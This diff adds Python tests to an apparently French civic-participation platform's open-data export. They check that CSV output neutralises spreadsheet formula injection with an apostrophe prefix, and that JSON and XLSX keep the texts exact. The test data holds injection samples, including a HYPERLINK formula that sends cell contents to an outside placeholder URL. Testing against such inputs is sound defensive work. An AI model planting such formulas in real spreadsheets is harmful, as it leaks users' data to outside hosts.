@@ -133,3 +133,64 @@ def test_closing_publishes_and_urls_are_stable(
     )
     assert client.get(missing).status_code == 404
     assert Contribution.objects.filter(process=process).count() == 14
+
+
+DANGEROUS = [
+    '=HYPERLINK("https://exemple.org/?"&A1;"Cliquez")',
+    "+ de bancs",
+    "- des bancs\n- des arbres",
+    "@Mairie des bancs",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_texts_never_start_a_formula_in_csv_and_stay_exact_in_json_and_xlsx(published_a, tmp_path):
+    from openpyxl import load_workbook
+
+    published = [text.replace("\r", "\n") for text in DANGEROUS]  # line ends are \n
+    for text in DANGEROUS:
+        make_contribution(published_a, title=text, body=text, latitude="-4.5", longitude="-3.25")
+    files = _files(services.dataset_publish(process=published_a))
+    for name, content in files.items():
+        (tmp_path / name).write_bytes(content)
+    report = validate(str(tmp_path / "datapackage.json"))
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
+    rows = list(csv.DictReader(io.StringIO(files["contributions.csv"].decode(), newline="")))
+    assert [r["text"] for r in rows] == ["'" + text for text in published]
+    assert {r["longitude"] for r in rows} == {"-3.250000"}  # numbers are not texts
+    assert [r["text"] for r in json.loads(files["donnees.json"])["contributions"]] == published
+    sheet = load_workbook(io.BytesIO(files["donnees.xlsx"]))["contributions"]
+    header = [cell.value for cell in sheet[1]]
+    texts = [row[header.index("text")] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in texts] == published
+    assert {c.data_type for c in texts} == {"s"}
+    assert "apostrophe" in files["LISEZMOI.md"].decode()
+    package = json.loads(files["datapackage.json"])
+    contributions = next(r for r in package["resources"] if r["name"] == "contributions")
+    assert "apostrophe" in contributions["description"]
+
+
+def test_dates_are_those_of_the_site_time_zone(published_a):
+    import datetime as dt
+
+    from django.utils import timezone
+
+    late = dt.datetime(2026, 3, 1, 23, 30, tzinfo=dt.UTC)  # 00:30 on 2 March in Paris
+    idea = make_contribution(published_a, body="Tard le soir", created_at=late)
+    answer = restitution.answer_give(
+        process=published_a,
+        contribution=idea,
+        status="adopted",
+        text="Oui.",
+        signed_as="Le maire",
+        user=None,
+    )
+    type(answer).objects.filter(pk=answer.pk).update(created_at=late)
+    files = _files(services.dataset_publish(process=published_a))
+    rows = list(csv.DictReader(io.StringIO(files["contributions.csv"].decode())))
+    assert rows[0]["date"] == "2026-03-02"
+    answers = list(csv.DictReader(io.StringIO(files["answers.csv"].decode())))
+    assert answers[0]["date"] == "2026-03-02"
+    today = timezone.localdate().isoformat()
+    assert f"Publié le : {today}" in files["LISEZMOI.md"].decode()
